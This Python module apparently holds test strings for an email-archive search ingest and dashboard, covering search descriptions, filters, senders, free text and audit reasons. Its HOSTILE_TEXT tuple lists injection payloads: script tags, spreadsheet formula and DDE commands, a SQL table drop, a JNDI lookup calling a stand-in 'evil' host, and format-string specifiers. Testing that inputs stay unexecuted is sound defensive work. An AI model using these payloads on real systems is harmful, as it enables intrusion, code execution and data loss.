"""What people type into the archive search box, and what the API reports about it.

Kept apart from the generator so the catalogue of awkward strings is easy to review and extend:
the ingest and the dashboard must store and show every one of these unchanged and unexecuted.
"""

from __future__ import annotations

MESSAGE_TRACKING = "Message Tracking Search"
THREAT_REMEDIATION = "Threat Remediation search"
ARCHIVE_SEARCH = "Archive Search"
AUDIT_PAGE = "Audit [Page {page}] - Depth 100"

SAVED_SEARCHES = (
    "Saved: Finance invoices Q4",
    "Legal hold – Project Falcon",
    "VIP inbound held",
    "Weekly DLP review",
    "HR case 2291 — do not share",
    "Quarantine > 24h",
)

FILTERS = (
    "[Status : held]",
    "[Status : delivered]",
    "[Status : rejected]",
    "[Status : bounced]",
    "[Route : outbound]",
    "[Route : inbound]",
    "[Route : internal]",
    "[Route : inbound] [Status : held]",
    "[Attachment : yes]",
)

EXTERNAL_SENDERS = (
    "billing@partner-bank.example.net",
    "ceo@examp1e.com",
    "no-reply@docusign.example.org",
    "recruiting@talent.example.io",
)

MESSAGE_ID_FORMATS = (
    "<{hex}@mail.example.com>",
    "<{HEX}@EUR03-AM7-obe.outlook.com>",
    "<CA+{hex}@mail.gmail.com>",
    "<{hex}.{short}@mx.partner-bank.example.net>",
)

FREE_TEXT = (
    "invoice",
    "Überweisung",
    "請求書",
    "🔒 confidential",
    "payroll March",
    "résumé Zoë",
    "contract renewal 2026",
    "счёт-фактура",
    "فاتورة",
    "חשבונית מס",
    "Q3 board pack",
    "password reset",
    "DocuSign",
    "wire transfer urgent",
    "naïve café menu",
    "O'Brien",
    '"quarterly results"',
    "tab\tseparated",
    "line one\nline two",
    "  leading and trailing spaces  ",
    "Überweisung 請求書 🔒",
)

HOSTILE_TEXT = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil","x")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE searches; --",
    "</td></tr><b>bold</b>",
    "{{7*7}} ${jndi:ldap://evil/a}",
    "C:\\Users\\Public\\",
    "\u202eexe.pdf",
    "pay\u200broll",
    "He said \"hi\"\r\nand left 'quietly'",
    "%s%s%n",
    "x" * 600,
)

REASONS = (
    "Legal hold request LH-2291",
    "HR investigation",
    "User asked to recover a deleted message",
    "Phishing triage INC-20931",
    "Subject access request (GDPR Art. 15)",
    "Auditor sample",
    "eDiscovery — matter 7781",
    "Ticket #48213: missing invoice",
)

SEARCH_PATHS = (
    "/Archive/Inbox",
    "/Archive/Sent Items",
    "/Archive/Finance/2026",
    "/Legal Hold/Project Falcon",
)


def description_for(kind: str, page: int, saved_pick: int) -> str:
    """The `description` Mimecast gives a search of this kind (`saved_pick` chooses the
    saved-search name); shared with the benchmark's generator."""
    fixed = {
        "mts": MESSAGE_TRACKING,
        "trs": THREAT_REMEDIATION,
        "archive": ARCHIVE_SEARCH,
    }
    if kind in fixed:
        return fixed[kind]
    if kind == "audit":
        return AUDIT_PAGE.format(page=page)
    return SAVED_SEARCHES[saved_pick % len(SAVED_SEARCHES)]
